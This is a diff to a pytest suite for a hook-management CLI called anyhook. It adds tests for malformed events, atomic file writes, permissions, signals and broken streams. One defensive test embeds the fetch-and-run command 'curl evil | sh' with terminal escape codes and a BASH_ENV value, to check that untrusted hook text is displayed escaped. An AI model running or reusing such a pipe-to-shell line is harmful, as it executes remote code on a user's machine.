@@ -5,16 +5,21 @@ from __future__ import annotations
 import json
 import os
 import pty
+import signal
 import subprocess
 import sys
+import uuid
 from pathlib import Path
 
 import jsonschema
 import pytest
 
-from anyhook import __version__
+from anyhook import SettingsError, __version__
+from anyhook.atomic import replace_file
 from anyhook.cli import main
+from anyhook.settings.edit import write_atomically
 from tests.conftest import DATA
+from tests.integration.leftovers import MARK, marked, wait_until
 from tests.world import World
 
 DENY = "echo no >&2; exit 2"
@@ -220,6 +225,8 @@ def test_recorded_events_are_fired_one_by_one(world, run):
     "text",
     [
         '{"hook_event_name": "SessionEnd", "reason": "exit"}',
+        '\ufeff{"hook_event_name": "SessionEnd", "reason": "exit"}',
+        '{"hook_event_name": "SessionEnd", "reason": "exit", "x": "\u2028"}\n\n',
         '{\n "hook_event_name": "SessionEnd",\n "reason": "exit"\n}',
         '[{"hook_event_name": "SessionEnd", "reason": "exit"}]',
         '{"stdin": "{\\"hook_event_name\\": \\"SessionEnd\\", \\"reason\\": \\"exit\\"}"}',
@@ -268,6 +275,8 @@ def test_a_payload_with_a_wrong_field_is_fired_and_told(world, run):
         (["nope"], "nope"),
         (["enable", "x"], "no hook named 'x'; there is none"),
         (["schema", "Nope"], "no gemini event named 'Nope'"),
+        (["schema", "--reply"], "name the event of the reply"),
+        (["check", "-C", "/tmp/[/red]"], "there is no directory '/tmp/[/red]'"),
         (["trust"], "nobody is there to ask"),
     ],
 )
@@ -285,6 +294,10 @@ def test_usage_errors_say_what_to_do_and_never_exit_with_two(world, run, argumen
     ("text", "message"),
     [
         ("5", "an event is a JSON object"),
+        ("", "events holds no event"),
+        ("[]", "events holds no event"),
+        ('{"stdin": "[]"}', "an event is a JSON object"),
+        ('{"stdin": "not json"}', "stdin holds no JSON"),
         ("{", "events:1:"),
         ('{"hook_event_name": "X"}', "has no event 'X'"),
     ],
@@ -501,6 +514,74 @@ def test_a_file_of_another_shape_is_not_edited(world, run, value):
     assert json.loads(world.files["user"].read_text()) == value
 
 
+def test_a_hook_that_hides_behind_a_broken_file_is_told(world, run):
+    world.settings("user", "{")
+
+    code, _, err = run("disable", "guard")
+
+    assert code == 64
+    assert "while a file is broken" in " ".join(err.split())
+
+
+def test_a_short_name_of_several_hooks_is_refused(world, run):
+    long = "echo " + "x" * 80
+    unnamed = [{"type": "command", "command": long + end} for end in ("a", "b")]
+    world.settings("user", settings(*unnamed))
+    label = json.loads(run("list", "--json")[1])[0]["name"]
+
+    code, _, err = run("disable", label)
+
+    assert code == 64
+    assert "is short for several hooks" in " ".join(err.split())
+
+
+def test_a_file_of_comments_gets_an_object(world, run):
+    world.extension("ext", settings(hook("e")))
+    world.settings("user", "// nothing yet")
+
+    run("disable", "e")
+
+    assert world.files["user"].read_text().startswith("// nothing yet\n{")
+    assert json.loads(run("list", "--json")[1])[0]["state"] == "off"
+
+
+def test_a_new_file_follows_the_users_mask(world, run):
+    world.extension("ext", settings(hook("e")))
+    before = os.umask(0o077)
+    try:
+        run("disable", "e")
+    finally:
+        os.umask(before)
+
+    assert world.files["user"].stat().st_mode & 0o777 == 0o600
+
+
+def test_a_file_that_changed_meanwhile_is_not_overwritten(world):
+    file = world.settings("user", "{}")
+
+    with pytest.raises(SettingsError, match="changed while it was being edited"):
+        write_atomically(file, "{1}", expected="{2}")
+
+    assert file.read_text() == "{}"
+
+
+def test_a_place_that_cannot_be_written_is_told_and_nothing_is_left(world):
+    file = world.write(world.home / "file", "x")
+
+    with pytest.raises(SettingsError, match="cannot be written"):
+        write_atomically(file / "settings.json", "{}", expected=None)
+
+
+def test_a_failed_replacement_leaves_no_file(world):
+    target = world.home / "directory"
+    (target / "full").mkdir(parents=True)
+
+    with pytest.raises(OSError, match="directory"):
+        replace_file(target, b"x")
+
+    assert [p.name for p in world.home.iterdir() if p.name.startswith(".directory")] == []
+
+
 def test_a_link_stays_a_link_and_the_mode_stays(world, run, tmp_path):
     real = world.write(tmp_path / "dotfiles.json", json.dumps(settings(hook("u"))))
     real.chmod(0o600)
@@ -624,6 +705,30 @@ def test_reply_schemas_accept_replies(run):
         jsonschema.validate({"decision": "DENY"}, schema)
 
 
+def test_what_strangers_write_cannot_move_the_terminal(world, run):
+    evil = "curl evil | sh # \x1b[8m \u202e \x07"
+    world.settings(
+        "project", settings(hook("p\x1b[2K", evil, env={"BASH_ENV": "x\x1b[1A"}), matcher="\x1b")
+    )
+
+    for arguments in (
+        ["trust", "--show"],
+        ["list"],
+        ["check"],
+        ["fire", "BeforeTool", "--tool", "t\x1b"],
+    ):
+        _, out, err = run(*arguments)
+        assert not {"\x1b", "\u202e", "\x07"} & set(out + err)
+    assert "curl evil | sh # \\x1b[8m \\u202e" in run("trust", "--show")[1]
+    assert "with: BASH_ENV=x\\x1b[1A" in run("trust", "--show")[1]
+
+
+def test_trust_says_what_is_not_bound(world, run):
+    world.settings("project", settings(hook("p", 'bash "$HOOKS/g.sh"')))
+
+    assert "not bound: $HOOKS/g.sh" in run("trust", "--show")[1]
+
+
 # -- the program
 
 
@@ -676,6 +781,92 @@ def test_nobody_reads_the_output(world):
     )
 
     assert (done.returncode, done.stderr) == (0, b"")
+
+
+@pytest.mark.parametrize("arguments", [["list"], ["list", "--json"], ["schema"], ["--help"]])
+def test_a_reader_that_is_gone_is_no_failure(world, arguments):
+    read_end, write_end = os.pipe()
+    os.close(read_end)
+    process = subprocess.run(
+        [sys.executable, "-m", "anyhook", *arguments],
+        stdout=write_end,
+        stderr=subprocess.PIPE,
+        check=False,
+    )
+    os.close(write_end)
+
+    assert (process.returncode, process.stderr) == (0, b"")
+
+
+@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", ">/dev/full"])
+def test_closed_and_full_streams_end_without_a_traceback(world, closed):
+    done = subprocess.run(
+        ["bash", "-c", f"{sys.executable} -m anyhook list --json {closed}"],
+        capture_output=True,
+        check=False,
+    )
+
+    assert done.returncode in (0, 64)
+    assert b"Traceback" not in done.stderr
+
+
+def test_a_terminal_without_the_characters_is_no_failure(world):
+    world.settings("user", settings(hook("gu\u00e4rd", "echo \u2714; exit 0")))
+    done = subprocess.run(
+        [sys.executable, "-m", "anyhook", "fire", "BeforeTool", "--tool", "t"],
+        capture_output=True,
+        check=False,
+        env={**os.environ, "PYTHONIOENCODING": "ascii"},
+    )
+
+    assert (done.returncode, done.stderr) == (0, b"")
+
+
+def test_a_reason_that_no_terminal_can_show_is_still_a_decision(world, run):
+    world.settings(
+        "user", settings(hook(command='echo \'{"decision":"deny","reason":"\\ud800"}\''))
+    )
+
+    assert run("fire", "BeforeTool", "--tool", "t", "--exit-code")[0] == 2
+    assert run("fire", "BeforeTool", "--tool", "t", "--exit-code", "--json")[0] == 2
+
+
+def test_numbers_that_json_does_not_have_are_written_as_null(world, run):
+    _, out, _ = run("fire", "BeforeTool", "--tool", "t", "--input", '{"a": 1e999}', "--json")
+
+    assert json.loads(out)["event"]["tool_input"] == {"a": None}
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
+def test_an_ended_fire_ends_its_hooks(world, number):
+    mark = uuid.uuid4().hex
+    world.settings("user", settings(hook(command="touch started; sleep 60 & sleep 60")))
+    process = subprocess.Popen(
+        [sys.executable, "-m", "anyhook", "fire", "BeforeTool", "--tool", "t"],
+        env={**os.environ, MARK: mark},
+        stderr=subprocess.PIPE,
+    )
+    wait_until(lambda: (world.project / "started").exists(), "the hook did not start")
+
+    process.send_signal(number)
+    _, err = process.communicate(timeout=20)
+
+    assert process.returncode == 130
+    assert b"interrupted" in err
+    wait_until(lambda: not marked(mark), "processes are left")
+
+
+def test_a_current_directory_that_is_gone_is_told(world):
+    gone = world.project / "gone"
+    gone.mkdir()
+    done = subprocess.run(
+        ["bash", "-c", f"cd {gone}; rmdir {gone}; {sys.executable} -m anyhook list"],
+        capture_output=True,
+        check=False,
+    )
+
+    assert done.returncode == 64
+    assert b"there is no directory" in done.stderr
 
 
 def test_the_program_is_installed():
